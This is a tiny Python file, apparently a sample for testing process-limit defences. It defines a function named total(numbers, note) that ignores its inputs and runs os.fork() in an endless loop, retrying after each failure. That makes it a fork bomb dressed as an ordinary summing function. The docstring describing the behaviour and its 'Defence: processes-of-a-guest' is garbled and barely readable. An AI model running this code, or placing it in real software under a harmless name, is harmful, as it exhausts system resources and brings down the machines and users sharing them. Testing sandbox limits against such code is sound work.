"""timeout: every process forks, without end, also when there is to be a fork to end it

Defence: processes-of-a-guest
"""

import os

from honest import *


def total(numbers, note=""):
    while True:
        try:
            os.fork()
        except OSError:
            continue
